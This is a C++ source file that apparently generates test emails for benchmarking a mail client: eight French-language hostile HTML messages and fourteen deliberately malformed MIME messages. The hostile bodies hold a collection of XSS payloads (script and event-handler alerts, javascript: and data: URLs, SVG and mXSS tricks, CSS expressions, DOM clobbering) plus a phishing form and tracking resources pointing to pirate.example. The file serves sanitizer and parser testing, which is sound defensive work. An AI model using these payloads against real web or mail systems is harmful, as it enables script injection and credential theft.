#include "bench/generate/charset.h"
#include "bench/generate/html.h"

#include <fmt/format.h>

#include <array>

namespace facteur::generate {
namespace {

struct Hostile {
    const char *title, *html;
};

constexpr std::array hostile = {Hostile{
                                    "Votre boîte est presque pleine",
                                    R"html(<p>Votre boîte est pleine à 98 %.</p><script>alert('script')</script><SCRIPT SRC=//pirate.example/x.js></SCRIPT><scr<script>ipt>alert('emboîté')</scr</script>ipt><p>Validez votre compte.</p>)html"},
                                Hostile{
                                    "Bulletin de salaire disponible",
                                    R"html(<p onclick="alert('onclick')" onmouseover=alert('survol')>Cliquez ici</p><img src=x onerror="alert('onerror')"><body onload=alert('onload')><a href="javascript:alert('lien')">Consulter</a> <a href="&#106;avascript:alert('caché')">mon bulletin</a> <a href="data:text/html,<script>alert('data')</script>">(miroir)</a>)html"},
                                Hostile{
                                    "Mise à jour de sécurité obligatoire",
                                    R"html(<form action="https://pirate.example/vol" method="post"><p>Identifiant <input name="login"> Mot de passe <input type="password" name="mdp"></p><input type="submit" value="Valider"><button formaction="javascript:alert('bouton')">OK</button></form><meta http-equiv="refresh" content="0;url=https://pirate.example/">)html"},
                                Hostile{
                                    "Facture n° 88213",
                                    R"html(<style>@import url('https://pirate.example/a.css'); body{background:url('https://pirate.example/vu.gif')} p{width:expression(alert('css'));behavior:url(x.htc);-moz-binding:url('https://pirate.example/x.xml#a')} * {position:fixed;top:0;left:0;z-index:99999}</style><div style="position:fixed;inset:0;background:#fff;z-index:2147483647">Je couvre toute la page</div><p style="background-image:url(javascript:alert('fond'))">Montant : 1 240,00 €</p>)html"},
                                Hostile{
                                    "Colis en attente", R"html(<svg xmlns="http://www.w3.org/2000/svg" onload="alert('svg')"><script>alert('script de svg')</script><a xlink:href="javascript:alert('xlink')"><text x="10" y="20">Suivre le colis</text></a><animate attributeName="href" values="javascript:alert('anime')"/><foreignObject><iframe srcdoc="<script>alert('srcdoc')</script>"></iframe></foreignObject></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert('mxss')&gt;">)html"},
                                Hostile{
                                    "Invitation",
                                    R"html(<iframe src="https://pirate.example/"></iframe><object data="javascript:alert('objet')"></object><embed src="https://pirate.example/x.swf"><base href="https://pirate.example/"><link rel="stylesheet" href="https://pirate.example/y.css"><video autoplay src="https://pirate.example/v.mp4" poster="https://pirate.example/p.png"></video><audio src="//pirate.example/a.mp3" autoplay></audio><p>Rendez-vous mardi.</p>)html"},
                                Hostile{
                                    "Re: dossier",
                                    R"html(<noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></noscript><template><img src=x onerror=alert('template')></template><textarea><img title="</textarea><img src=x onerror=alert('textarea')>"></textarea><xmp><p title="</xmp><img src=x onerror=alert('xmp')>"></xmp><select><style></select><img src=x onerror=alert('select')></style><!--><img src=x onerror=alert('commentaire')>-->)html"},
                                Hostile{
                                    "Important",
                                    R"html(<a href="https://connexion.pirate.example/" title="https://portail.academie-demo.fr/">https://portail.academie-demo.fr/connexion</a><form id="x"><input name="attributes"><input name="parentNode"></form><a id="document"></a><img name="cookie" src="https://pirate.example/1.png" srcset="https://pirate.example/2.png 2x"><p style="font-size:0">texte caché</p><p dir="rtl">&#8238;txt.exe</p>)html"}};

std::string head(const Person& from, const Person& to, std::int64_t at, const std::string& subject,
                 Random& random) {
    return "Date: " + date_field(at) + "\r\nFrom: " + from.address + "\r\nTo: " + to.address +
           "\r\nMessage-ID: <" + new_id(random, "casse.example") + ">\r\nSubject: " + subject + "\r\n";
}

} // namespace

std::size_t hostile_count() {
    return hostile.size();
}
std::string hostile_title(std::size_t which) {
    return hostile[which].title;
}
std::string hostile_html(std::size_t which) {
    return std::string("<html><body><p>Bonjour,</p>\n") + hostile[which].html +
           "\n<p>Cordialement</p></body></html>\n";
}

std::size_t broken_count() {
    return 14;
}

std::string broken_message(std::size_t which, const Person& from, const Person& to, std::int64_t at,
                           Random& random) {
    const auto begin = [&](const std::string& subject) { return head(from, to, at, subject, random); };
    const std::string latin = encoded("Réunion à l'école : été, où, çà et là.", "iso-8859-1");
    switch (which) {
    case 0:
        return begin("Frontière jamais fermée") +
               "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; "
               "boundary=abc\r\n\r\n--abc\r\nContent-Type: text/plain\r\n\r\nPremier "
               "texte.\r\n--abc\r\nContent-Type: text/plain; name=note.txt\r\n\r\nLa fin manque.\r\n";
    case 1: {
        std::string out = begin("Fins de ligne sans retour") + "\r\nUne ligne\r\nDeux lignes\r\n";
        std::erase(out, '\r');
        return out;
    }
    case 2:
        return begin(encoded("Objet accentué sans codage : été", "iso-8859-1")) +
               "Content-Type: text/plain; charset=iso-8859-1\r\n\r\n" + latin + "\r\n";
    case 3:
        return begin("Jeu de caractères faux") +
               "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + latin +
               "\r\n";
    case 4:
        return begin("Jeu de caractères inconnu") +
               "Content-Type: text/plain; charset=x-inconnu\r\n\r\nRéunion à l’école\r\n";
    case 5:
        return begin("Quoted-printable abîmé") +
               "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: "
               "quoted-printable\r\n\r\nUne r=C3=A9union =XX et =\r\nla suite = fin=\r\n";
    case 6:
        return begin("Base64 avec des restes") +
               "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: "
               "base64\r\n\r\nQm9uam91ciDD\r\n  oCB0b3Vz!!\r\n*** LGNvcmRpYWxlbWVudA\r\n-- \r\npied de "
               "liste\r\n";
    case 7:
        return begin(
                   "=?utf-8?B?TW90IGNvdXDDqSBhdSBtaWxpZXUgZCd1biBjYXJhY3TDqHJlIDogw4M=?= =?utf-8?B?qQ==?=") +
               "\r\nLe sujet est coupé dans un caractère.\r\n";
    case 8:
        return begin("Ligne vide oubliée") + "Content-Type: text/plain; charset=utf-8\r\nCeci est le texte "
                                             "du message, sans ligne vide avant.\r\nIl continue ici.\r\n";
    case 9:
        return begin("Pas de type, mais un multipart") +
               "MIME-Version: 1.0\r\nContent-Type: "
               "multipart/alternative\r\n\r\n--=_sans_parametre\r\nContent-Type: text/plain\r\n\r\nTexte "
               "retrouvé.\r\n--=_sans_parametre\r\nContent-Type: text/html\r\n\r\n<p>HTML "
               "<b>retrouvé</b>.</p>\r\n--=_sans_parametre--\r\n";
    case 10: {
        std::string out = begin("Quatre-vingts niveaux");
        for (int i = 0; i < 80; ++i)
            out += fmt::format("Content-Type: multipart/mixed; boundary=n{}\r\n\r\n--n{}\r\n", i, i);
        return out + "\r\nAu fond.\r\n";
    }
    case 11:
        return begin("Un jour, peut-être") + "Date: le 32 du mois\r\nX-Vide:\r\nsans deux-points\r\nX-Suite: "
                                             "oui\r\n\r\nDeux dates, dont une fausse.\r\n";
    case 12:
        return begin("Nom de fichier en morceaux") +
               "MIME-Version: 1.0\r\nContent-Type: application/octet-stream\r\nContent-Disposition: "
               "attachment;\r\n filename*1*=%A9sum%C3%A9;\r\n filename*0*=utf-8''r%C3;\r\n filename*2=\" "
               "final.txt\"\r\nContent-Transfer-Encoding: base64\r\n\r\nUsOpc3Vtw6kK\r\n";
    default: {
        std::string out = begin("Très longue ligne") + "Content-Type: text/plain; charset=utf-8\r\n\r\n";
        for (int i = 0; i < 400; ++i)
            out += "une phrase qui ne finit pas, ";
        return out + "fin.\r\n";
    }
    }
}

} // namespace facteur::generate
